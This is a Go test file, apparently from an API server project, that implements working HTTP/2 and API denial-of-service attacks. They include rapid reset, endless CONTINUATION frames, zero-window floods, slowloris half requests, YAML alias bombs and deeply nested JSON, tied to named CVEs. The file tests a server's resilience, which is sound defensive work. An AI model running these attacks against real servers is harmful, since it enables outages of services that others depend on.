package test

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const attackedMaps = "/api/v1/namespaces/default/configmaps"

// attacks are the known attacks on HTTP/2 servers (CVE-2019-9511 to 9518, CVE-2023-44487,
// CVE-2024-27316, CVE-2025-8671), and attacks that the code of this server suggests.
var attacks = []attack{
	{"anonymous reads, closed windows", func(ctx context.Context, x *target) {
		x.streams(ctx, 4, func(c *hostile) { c.each(100, request{path: attackedMaps}) })
	}},
	{"anonymous writes, closed windows", func(ctx context.Context, x *target) {
		x.streams(ctx, 2, func(c *hostile) { c.each(100, request{method: "DELETE", path: attackedMaps + "/x"}) })
	}},
	{"cookies that are indexed", func(ctx context.Context, x *target) {
		x.streams(ctx, 2, func(c *hostile) {
			c.fields(":method", "GET", ":scheme", "https", ":authority", "x", ":path", "/livez", "cookie", "a=b")
			c.block.Write(bytes.Repeat([]byte{0x80 | 62}, 14_500)) // the newest entry of the table
			c.write(true)
		})
	}},
	{"OpenAPI, closed windows", func(ctx context.Context, x *target) {
		x.streams(ctx, 4, func(c *hostile) { c.each(100, request{path: "/openapi/v2", token: x.token}) })
	}},
	{"bodies without an end", func(ctx context.Context, x *target) {
		x.streams(ctx, 4, func(c *hostile) {
			c.each(100, request{method: "POST", path: "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", token: x.token, body: "{"})
		})
	}},
	{"lists, closed windows", func(ctx context.Context, x *target) {
		x.streams(ctx, 2, func(c *hostile) { c.each(100, request{path: attackedMaps, token: x.admin}) })
	}},
	{"large objects", func(ctx context.Context, x *target) { x.post(ctx, 2, largeObjects()) }},
	{"large headers", func(ctx context.Context, x *target) {
		large := strings.Repeat("x", 1<<20)
		x.streams(ctx, 2, func(c *hostile) { c.each(10, request{path: "/livez", token: large}) })
	}},
	{"idle after large headers", func(ctx context.Context, x *target) {
		large := strings.Repeat("x", 30<<10)
		x.hold(ctx, 100, func(c *hostile) { c.each(1, request{path: "/livez", token: large}) })
	}},
	{"a webhook that stalls", func(ctx context.Context, x *target) {
		x.streams(ctx, 5, func(c *hostile) {
			c.each(100, request{path: "/apis/example.com/v2/namespaces/default/stalls/a", token: x.admin})
		})
	}},
	{"selectors that drop everything, clients that leave", func(ctx context.Context, x *target) {
		x.streams(ctx, 2, func(c *hostile) {
			c.each(50, request{path: attackedMaps + "?labelSelector=a%3Db", token: x.admin})
			c.reset()
		})
	}},
	{"connections that say one byte", func(ctx context.Context, x *target) {
		var open []net.Conn
		for len(open) < 400 && ctx.Err() == nil {
			conn, err := net.DialTimeout("tcp", x.address, time.Second)
			if err != nil {
				break
			}
			conn.Write([]byte{22})
			x.sent.Add(1)
			open = append(open, conn)
		}
		<-ctx.Done()
		for _, c := range open {
			c.Close()
		}
	}},
	{"endless CONTINUATION", func(ctx context.Context, x *target) {
		x.streams(ctx, 2, func(c *hostile) {
			c.fields(":method", "GET", ":scheme", "https", ":authority", "x", ":path", "/livez")
			c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next, BlockFragment: c.block.Bytes()})
			for ctx.Err() == nil && c.framer.WriteContinuation(c.next, false, nil) == nil {
			}
			c.next += 2
		})
	}},
	{"rapid reset", func(ctx context.Context, x *target) {
		x.streams(ctx, 2, func(c *hostile) {
			for range 50 {
				c.each(1, request{path: "/version"})
				c.reset()
			}
		})
	}},
	{"resets that the server sends", func(ctx context.Context, x *target) {
		x.streams(ctx, 2, func(c *hostile) {
			for range 50 {
				c.each(1, request{method: "POST", path: "/version", body: "x"})
				c.framer.WriteWindowUpdate(c.next-2, 1<<31-1)
				c.framer.WriteWindowUpdate(c.next-2, 1<<31-1)
			}
		})
	}},
	{"SETTINGS, PING and empty DATA", func(ctx context.Context, x *target) {
		x.streams(ctx, 2, func(c *hostile) {
			c.each(1, request{method: "POST", path: attackedMaps, token: x.token, body: "{"})
			for i := range 1000 {
				c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
				c.framer.WritePing(false, [8]byte{})
				c.framer.WriteData(c.next-2, false, nil)
			}
		})
	}},
	{"watches that are not read", func(ctx context.Context, x *target) {
		x.hold(ctx, 4, func(c *hostile) {
			c.each(100, request{path: attackedMaps + "?watch=1&resourceVersion=0", token: x.admin})
		})
	}},
	{"bombs", func(ctx context.Context, x *target) { x.post(ctx, 1, bombs()) }},
	{"half a request by HTTP/1", func(ctx context.Context, x *target) {
		var open []net.Conn
		for len(open) < 100 && ctx.Err() == nil {
			conn, err := x.dial("http/1.1")
			if err != nil {
				continue
			}
			fmt.Fprintf(conn, "POST /apis/authorization.k8s.io/v1/selfsubjectaccessreviews HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: 3000000\r\n\r\n{", x.token)
			x.sent.Add(1)
			open = append(open, conn)
		}
		<-ctx.Done()
		for _, c := range open {
			c.Close()
		}
	}},
}

// largeObjects cost much where their lists are compared each with each.
func largeObjects() map[string]string {
	many := func(n int, item func(i int) string) string {
		var b strings.Builder
		for i := range n {
			if i > 0 {
				b.WriteByte(',')
			}
			b.WriteString(item(i))
		}
		return b.String()
	}
	return map[string]string{
		"/apis/certificates.k8s.io/v1/certificatesigningrequests": `{"metadata":{"name":"a"},"spec":{"signerName":"a.b/c","request":"","usages":[` + many(250_000, func(i int) string { return fmt.Sprintf(`"%d"`, i) }) + `]}}`,
		"/api/v1/namespaces/default/services":                     `{"metadata":{"name":"a"},"spec":{"ports":[` + many(50_000, func(i int) string { return fmt.Sprintf(`{"name":"p%d","port":%d}`, i, i%60_000+1) }) + `]}}`,
		attackedMaps:                                              `{"metadata":{"name":"a"},"data":{` + many(150_000, func(i int) string { return fmt.Sprintf(`"/%d":""`, i) }) + `}}`,
		"/api/v1/nodes":                                           `{"metadata":{"name":"a"},"spec":{"taints":[` + many(50_000, func(i int) string { return fmt.Sprintf(`{"key":"k%d","effect":"NoSchedule"}`, i) }) + `]}}`,
	}
}

// bombs are small and become large, or are deep.
func bombs() map[string]string {
	yaml := "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c < 'j'; c++ {
		yaml += fmt.Sprintf("%c: &%c [%s]\n", c, c, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*%c,", c-1), 10), ","))
	}
	return map[string]string{
		attackedMaps:                          yaml,
		"/api/v1/namespaces/default/secrets":  strings.Repeat(`{"a":`, 500_000),
		"/api/v1/namespaces/default/pods":     strings.Repeat("[", 3_000_000),
		"/api/v1/namespaces/default/services": `{"metadata":{"name":"a","labels":{` + strings.Repeat(`"a":"b",`, 300_000) + `"a":"b"}}}`,
	}
}

// post sends bodies, over and over, on some connections.
func (x *target) post(ctx context.Context, connections int, bodies map[string]string) {
	client := &http.Client{Transport: &http.Transport{TLSClientConfig: x.tls.Clone(), ForceAttemptHTTP2: true}}
	defer client.CloseIdleConnections()
	var all sync.WaitGroup
	for range connections {
		all.Go(func() {
			for ctx.Err() == nil {
				for path, body := range bodies {
					r, err := http.NewRequestWithContext(ctx, "POST", "https://"+x.address+path, strings.NewReader(body))
					if err != nil {
						panic(err)
					}
					r.Header.Set("Authorization", "Bearer "+x.admin)
					r.Header.Set("Content-Type", "application/json")
					if body[0] != '{' && body[0] != '[' {
						r.Header.Set("Content-Type", "application/yaml")
					}
					x.sent.Add(1)
					if resp, err := client.Do(r); err == nil {
						io.Copy(io.Discard, resp.Body)
						resp.Body.Close()
					}
				}
			}
		})
	}
	all.Wait()
}

// request is a request of a hostile client; the zero value of method is GET. A body has no end.
type request struct{ method, path, token, body string }

// hostile is an HTTP/2 connection that takes no byte of any response's body.
type hostile struct {
	conn   net.Conn
	framer *http2.Framer
	block  bytes.Buffer
	hpack  *hpack.Encoder
	next   uint32
	failed bool
}

func (x *target) dial(protocol string) (*tls.Conn, error) {
	config := x.tls.Clone()
	config.NextProtos = []string{protocol}
	d := tls.Dialer{NetDialer: &net.Dialer{Timeout: time.Second}, Config: config}
	c, err := d.Dial("tcp", x.address)
	if err != nil {
		return nil, err
	}
	return c.(*tls.Conn), nil
}

// streams opens connections, has each do something again and again until it breaks, and
// opens it anew then, at a bounded rate.
func (x *target) streams(ctx context.Context, connections int, do func(c *hostile)) {
	x.open(ctx, connections, func(c *hostile) {
		for ctx.Err() == nil && !c.failed {
			do(c)
			x.count(c)
			time.Sleep(20 * time.Millisecond)
		}
	})
}

// hold opens connections, has each do something once, and keeps them.
func (x *target) hold(ctx context.Context, connections int, do func(c *hostile)) {
	x.open(ctx, connections, func(c *hostile) {
		do(c)
		x.count(c)
		<-ctx.Done()
	})
}

// count counts a connection that has sent a request.
func (x *target) count(c *hostile) {
	if c.next > 1 {
		x.sent.Add(1)
	}
}

// open opens HTTP/2 connections and calls use for each, again and again until ctx ends.
func (x *target) open(ctx context.Context, connections int, use func(c *hostile)) {
	var all sync.WaitGroup
	for range connections {
		all.Go(func() {
			for ctx.Err() == nil {
				conn, err := x.dial("h2")
				if err != nil {
					time.Sleep(20 * time.Millisecond)
					continue
				}
				stop := context.AfterFunc(ctx, func() { conn.Close() })
				c := &hostile{conn: conn, framer: http2.NewFramer(conn, nil), next: 1}
				c.hpack = hpack.NewEncoder(&c.block)
				go io.Copy(io.Discard, conn) // frames without flow control
				io.WriteString(conn, http2.ClientPreface)
				c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
				use(c)
				stop()
				conn.Close()
			}
		})
	}
	all.Wait()
}

// each sends a request so many times.
func (c *hostile) each(n int, r request) {
	method := r.method
	if method == "" {
		method = "GET"
	}
	for range n {
		c.fields(":method", method, ":scheme", "https", ":authority", "x", ":path", r.path, "authorization", "Bearer "+r.token)
		if r.body != "" {
			c.fields("content-type", "application/json")
		}
		c.write(r.body == "")
		if r.body != "" && c.framer.WriteData(c.next-2, false, []byte(r.body)) != nil {
			c.failed = true
		}
	}
}

// fields appends fields, names and values in turn, to the header block.
func (c *hostile) fields(all ...string) {
	for i := 0; i < len(all); i += 2 {
		c.hpack.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1]})
	}
}

// write sends the header block as a request.
func (c *hostile) write(end bool) {
	const frame = 16 << 10
	b := c.block.Bytes()
	first := b[:min(frame, len(b))]
	b = b[len(first):]
	err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next, BlockFragment: first, EndStream: end, EndHeaders: len(b) == 0})
	for len(b) > 0 && err == nil {
		part := b[:min(frame, len(b))]
		b = b[len(part):]
		err = c.framer.WriteContinuation(c.next, len(b) == 0, part)
	}
	c.failed = c.failed || err != nil
	c.block.Reset()
	c.next += 2
}

// reset resets the newest streams.
func (c *hostile) reset() {
	for id := c.next - 2; id > 0 && id < 1<<31 && c.next-id < 100; id -= 2 {
		if c.framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			c.failed = true
			return
		}
	}
}
